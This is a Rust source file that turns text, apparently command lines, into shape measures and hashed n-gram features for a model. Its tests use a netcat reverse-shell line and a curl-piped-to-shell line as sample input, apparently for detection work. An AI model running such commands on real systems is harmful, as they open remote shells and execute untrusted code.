//! What a model sees of a text: measures of its shape, and n-grams by number.
//!
//! Letters count as small ones, and four or more digits in a row as one zero: what differs between two command lines is
//! seldom which port it was. N-grams are words (of letters and digits), pairs and triples of words, single symbols in a
//! row, and pieces of [`PIECE`] characters with their symbols. Each has a number: its hash, so that no list of them is
//! needed; [`limits::NGRAM_NUMBERS`] is so large that few share one.

use crate::feature::MISSING;
use crate::table::limits::{self, TEXT_BYTES_MAX};

/// Measures of shape: logarithm of the length, entropy, shares of digits, capitals, symbols and bytes beyond ASCII,
/// logarithms of the number of words and of the length of the longest one.
pub const SHAPES: usize = 8;
/// Characters of a piece.
const PIECE: usize = 4;
/// So many digits in a row are one zero.
const DIGITS: usize = 4;
/// Words that are taken together at most.
const WORDS_TOGETHER: usize = 3;

/// The measures of shape of a text.
pub fn shape(text: &str) -> [f32; SHAPES] {
    let bytes = text.as_bytes();
    let mut counts = [0_u32; 256];
    bytes.iter().for_each(|byte| counts[usize::from(*byte)] += 1);
    let length = bytes.len().max(1) as f64;
    let mut entropy = 0.0;
    for count in counts.iter().filter(|count| **count > 0) {
        let share = f64::from(*count) / length;
        entropy -= share * libm::log2(share);
    }
    let share = |is: fn(&u8) -> bool| (bytes.iter().filter(|byte| is(byte)).count() as f64 / length) as f32;
    let words = || text.split_whitespace();
    let logarithm = |count: usize| libm::log1p(count as f64) as f32;
    [
        logarithm(bytes.len()),
        entropy as f32,
        share(u8::is_ascii_digit),
        share(u8::is_ascii_uppercase),
        share(u8::is_ascii_punctuation),
        share(|byte| !byte.is_ascii()),
        logarithm(words().count()),
        logarithm(words().map(str::len).max().unwrap_or(0)),
    ]
}

/// The numbers of the n-grams of a text, ascending, each once with the times it occurs. Looks at the first
/// [`TEXT_BYTES_MAX`] bytes.
pub fn ngrams(text: &str, into: &mut Vec<(u32, u32)>) {
    into.clear();
    let normal = normalised(text.as_bytes().get(..TEXT_BYTES_MAX).unwrap_or(text.as_bytes()));
    let mut numbers: Vec<u32> = Vec::with_capacity(4 * normal.len());
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || !byte.is_ascii();
    let mut words: Vec<u64> = Vec::new();
    for run in normal.chunk_by(|a, b| is_word(a) == is_word(b) && !a.is_ascii_whitespace() && !b.is_ascii_whitespace())
    {
        if run.first().is_some_and(u8::is_ascii_whitespace) {
            continue;
        }
        if run.first().is_some_and(is_word) {
            words.push(hash(1, run));
        } else {
            numbers.push(number(hash(2, run)));
        }
    }
    for together in 1..=WORDS_TOGETHER {
        for window in words.windows(together) {
            let hash = window.iter().fold(together as u64, |state, word| mix(state.rotate_left(21) ^ word));
            numbers.push(number(hash));
        }
    }
    numbers.extend(normal.windows(PIECE).map(|piece| number(hash(3, piece))));
    numbers.sort_unstable();
    into.extend(numbers.chunk_by(|a, b| a == b).filter_map(|run| Some((*run.first()?, run.len() as u32))));
}

/// The shape of a text, then for each of `known` (ascending) the logarithm of how often it occurs.
pub(super) fn encode(text: Option<&str>, known: &[u32], out: &mut Vec<f32>) {
    let Some(text) = text else {
        out.extend(std::iter::repeat_n(MISSING, SHAPES + known.len()));
        return;
    };
    out.extend(shape(text));
    let mut found = Vec::new();
    ngrams(text, &mut found);
    let mut found = found.into_iter().peekable();
    for wanted in known {
        while found.next_if(|(number, _)| number < wanted).is_some() {}
        let times = found.next_if(|(number, _)| number == wanted).map_or(0, |(_, times)| times);
        out.push(libm::log1pf(times as f32));
    }
}

/// Small letters, and one zero for many digits.
fn normalised(text: &[u8]) -> Vec<u8> {
    let mut normal = Vec::with_capacity(text.len());
    for run in text.chunk_by(|a, b| a.is_ascii_digit() && b.is_ascii_digit()) {
        if run.len() >= DIGITS {
            normal.push(b'0');
        } else {
            normal.extend(run.iter().map(u8::to_ascii_lowercase));
        }
    }
    normal
}

fn number(hash: u64) -> u32 {
    (hash % u64::from(limits::NGRAM_NUMBERS)) as u32
}

/// FNV-1a, well mixed.
fn hash(seed: u64, bytes: &[u8]) -> u64 {
    let state = bytes.iter().fold(0xcbf2_9ce4_8422_2325 ^ seed, |state: u64, byte| {
        (state ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3)
    });
    mix(state)
}

/// The finalizer of SplitMix64.
fn mix(mut value: u64) -> u64 {
    value = (value ^ (value >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    value = (value ^ (value >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    value ^ (value >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn numbers(text: &str) -> Vec<(u32, u32)> {
        let mut found = Vec::new();
        ngrams(text, &mut found);
        found
    }

    #[test]
    fn what_is_alike_has_like_ngrams() {
        assert_eq!(numbers("nc -e /bin/sh 10.0.0.1 4444"), numbers("NC -e /bin/sh 10.0.0.1 31337"));
        let (a, b) = (numbers("curl http://x | sh"), numbers("ls -l; curl http://x | sh"));
        assert!(a.iter().all(|(number, _)| b.iter().any(|(other, _)| number == other)));
        assert!(numbers("6 6 63").iter().any(|(_, times)| *times == 2), "numbers of system calls stay");
        assert!(numbers("").is_empty());
    }

    #[test]
    fn a_long_text_is_cut() {
        let long = "word ".repeat(100_000);
        assert_eq!(numbers(&long), numbers(&long[..TEXT_BYTES_MAX]));
    }

    #[test]
    fn known_ngrams_are_counted_in_their_order() {
        let found = numbers("sh -c sh");
        let known: Vec<u32> = found.iter().map(|(number, _)| *number).collect();
        let mut values = Vec::new();
        encode(Some("sh -c sh"), &known, &mut values);
        let expected: Vec<f32> = found.iter().map(|(_, times)| libm::log1pf(*times as f32)).collect();
        assert_eq!(values[SHAPES..], expected);
        values.clear();
        encode(None, &known, &mut values);
        assert!(values.len() == SHAPES + known.len() && values.iter().all(|value| value.is_nan()));
    }
}
